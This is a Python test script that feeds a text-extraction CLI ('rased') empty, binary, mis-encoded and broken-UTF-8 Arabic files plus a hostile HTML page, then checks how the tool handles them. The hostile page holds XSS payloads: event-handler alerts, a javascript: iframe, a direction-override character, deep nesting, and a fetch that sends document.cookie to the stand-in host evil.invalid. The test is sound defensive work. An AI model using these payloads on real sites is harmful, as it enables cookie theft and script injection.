#!/usr/bin/env python3
"""cli_rejects_bad_input: `rased extract --json DIR` over a folder of good and bad files.

    check_bad_input.py --binary build/rased

The folder holds, in this (sorted) reading order:
  a_empty.txt          0 bytes
  b_png_bytes.txt      a PNG header and binary bytes under a .txt name
  c_windows1256.txt    Arabic in Windows-1256 (a legacy encoding, must be converted)
  d_broken_utf8.txt    Arabic UTF-8 with invalid and truncated byte sequences
  e_hostile.html       scripts, event handlers, U+202E, 20,000 nested <div>s
  z_good.txt           a plain UTF-8 Arabic article

Asserted: rased exits with 1 (some documents failed, none crashed it); every
stdout line is a JSON object; the good and the Windows-1256 articles are printed
with their Arabic text; the empty and the binary file are not printed; each of
the four bad files is named on stderr with a reason; the hostile page, if
printed, carries none of its script payload. The bad files come first, so the
good ones also show that the batch goes on.
"""

import argparse
import json
import os
import re
import subprocess
import sys
import tempfile

# "The Tunisian agriculture ministry announced yesterday, Wednesday, that this
# season's grain harvest reached about 1.2 million tonnes, slightly more than
# last year despite the drought in the north-west. A ministry spokesman said the
# government would keep importing durum wheat to cover the local market."
GOOD_ARTICLE = (
    "أعلنت وزارة الفلاحة التونسية أمس الأربعاء أن محصول الحبوب لهذا الموسم بلغ نحو 1.2 مليون طن، "
    "بزيادة طفيفة عن العام الماضي رغم الجفاف الذي ضرب مناطق الشمال الغربي.\n"
    "وقال المتحدث باسم الوزارة إن الحكومة ستواصل استيراد القمح الصلب لتغطية حاجات السوق المحلية.\n"
)
GOOD_MARKER = "محصول الحبوب"  # "the grain harvest"

# "Shipping sources in the port of Hodeidah said a ship loaded with wheat docked
# at dawn today after waiting two weeks off the Yemeni coast, and that unloading
# began under the supervision of United Nations teams."
CP1256_ARTICLE = (
    "قالت مصادر ملاحية في ميناء الحديدة إن سفينة محملة بالقمح رست في الميناء فجر اليوم "
    "بعد انتظار دام أسبوعين قبالة السواحل اليمنية، وإن عمليات التفريغ بدأت تحت إشراف "
    "فرق الأمم المتحدة.\n"
)
CP1256_MARKER = "سفينة محملة بالقمح"  # "a ship loaded with wheat"

# "An African Union delegation arrived in Port Sudan, the temporary Sudanese
# capital, to discuss ..." with invalid bytes in the middle.
BROKEN_UTF8 = (
    "وصل وفد من الاتحاد الأفريقي إلى بورتسودان".encode("utf-8") + b"\xff\xfe" +
    " العاصمة السودانية المؤقتة، لبحث".encode("utf-8") + b"\xd8" +
    " سبل استئناف المفاوضات بين الطرفين.\n".encode("utf-8")
)

PNG_BYTES = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06"
             b"\x00\x00\x00\x5c\x72\xa8\x66" + bytes(range(256)) * 8)

RLO = "\u202e"
SCRIPT_PAYLOADS = ["alert(", "onerror", "onload", "INJECTED-BY-SCRIPT", "evil.invalid",
                   "document.cookie", "javascript:"]


def hostile_html():
    depth = 20000
    # "A paragraph deep inside the page" / "A visible paragraph after the nested
    # sections, about the port of Tripoli."
    return (
        "<!DOCTYPE html><html><head><meta charset='utf-8'>"
        f"<title>{RLO}عنوان مقلوب</title>"
        "<script>alert('head-script')</script></head>"
        "<body onload=\"alert('onload')\">"
        "<img src='x' onerror=\"alert('onerror-payload')\">"
        "<script>document.write('<p>INJECTED-BY-SCRIPT</p>')</script>"
        "<iframe src='javascript:alert(1)'></iframe>"
        + "<div>" * depth
        + f"<p>فقرة عميقة داخل الصفحة {RLO}مع محرف تغيير الاتجاه</p>"
        + "</div>" * depth
        + "<p>فقرة ظاهرة بعد الأقسام المتداخلة تتحدث عن حركة السفن في ميناء طرابلس.</p>"
        "<script>fetch('http://evil.invalid/?c='+document.cookie)</script>"
        "</body></html>"
    ).encode("utf-8")


def make_inputs(folder):
    files = {
        "a_empty.txt": b"",
        "b_png_bytes.txt": PNG_BYTES,
        "c_windows1256.txt": CP1256_ARTICLE.encode("cp1256"),
        "d_broken_utf8.txt": BROKEN_UTF8,
        "e_hostile.html": hostile_html(),
        "z_good.txt": GOOD_ARTICLE.encode("utf-8"),
    }
    for name, data in files.items():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)


class Checks:
    def __init__(self):
        self.failures = []

    def expect(self, ok, message):
        print(("ok    " if ok else "FAIL  ") + message)
        if not ok:
            self.failures.append(message)


def has_arabic(text):
    return re.search("[\u0621-\u064a]", text or "") is not None


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--binary", required=True)
    p.add_argument("--timeout", type=float, default=120)
    args = p.parse_args()
    binary = os.path.abspath(args.binary)
    if not os.access(binary, os.X_OK):
        print(f"check_bad_input: {binary} is not an executable", file=sys.stderr)
        return 2

    with tempfile.TemporaryDirectory(prefix="rased-bad-input-") as folder:
        make_inputs(folder)
        cmd = [binary, "extract", "--json", folder]
        try:
            proc = subprocess.run(cmd, capture_output=True, timeout=args.timeout)
        except subprocess.TimeoutExpired:
            print(f"FAIL  '{' '.join(cmd)}' did not finish in {args.timeout:.0f} s")
            return 1
    stdout = proc.stdout.decode("utf-8", "replace")
    stderr = proc.stderr.decode("utf-8", "replace")
    print(f"$ rased extract --json <folder>  -> exit {proc.returncode}")
    print("stderr:\n" + "".join(f"  {line}\n" for line in stderr.splitlines()))

    c = Checks()
    c.expect(proc.returncode >= 0, f"rased was not killed by a signal ({proc.returncode})")
    c.expect(proc.returncode == 1, f"exit status is 1 (got {proc.returncode})")

    docs = {}
    for n, line in enumerate(stdout.splitlines(), 1):
        if not line.strip():
            continue
        try:
            obj = json.loads(line)
        except json.JSONDecodeError as e:
            c.expect(False, f"stdout line {n} is JSON ({e}): {line[:80]!r}")
            continue
        if not isinstance(obj, dict) or "doc" not in obj:
            c.expect(False, f"stdout line {n} is a document object with a \"doc\" field")
            continue
        docs[os.path.basename(str(obj["doc"]))] = obj
    print(f"documents printed: {', '.join(sorted(docs)) or '(none)'}")

    for name, marker in (("z_good.txt", GOOD_MARKER), ("c_windows1256.txt", CP1256_MARKER)):
        doc = docs.get(name)
        c.expect(doc is not None, f"{name} is printed")
        if doc is not None:
            text = doc.get("text") or ""
            c.expect(has_arabic(text) and marker in text,
                     f"{name} carries its Arabic text (contains «{marker}»)")

    for name in ("a_empty.txt", "b_png_bytes.txt"):
        c.expect(name not in docs, f"{name} is not printed as a document")

    stderr_lines = stderr.splitlines()
    for name in ("a_empty.txt", "b_png_bytes.txt", "d_broken_utf8.txt", "e_hostile.html"):
        lines = [line for line in stderr_lines if name in line]
        # A clear message says something after the file's name, not just the name.
        clear = any(len(line.split(name, 1)[1].strip(" :")) >= 5 for line in lines)
        c.expect(clear, f"stderr names {name} with a reason"
                 + (f": {lines[0].strip()}" if lines else ""))

    hostile = docs.get("e_hostile.html")
    if hostile is not None:
        printed = json.dumps(
            {k: hostile.get(k) for k in ("title", "text", "boilerplate_removed")},
            ensure_ascii=False)
        leaked = [p for p in SCRIPT_PAYLOADS if p in printed]
        c.expect(not leaked, "e_hostile.html carries no script payload"
                 + (f" (found {', '.join(leaked)})" if leaked else ""))
        print(f"info  e_hostile.html printed, {len(hostile.get('text') or '')} characters of text,"
              f" U+202E {'kept' if RLO in (hostile.get('text') or '') else 'not in text'}")
    else:
        print("info  e_hostile.html was not printed (rejected)")

    if c.failures:
        print(f"\ncheck_bad_input: {len(c.failures)} check(s) failed")
        return 1
    print("\ncheck_bad_input: all checks passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
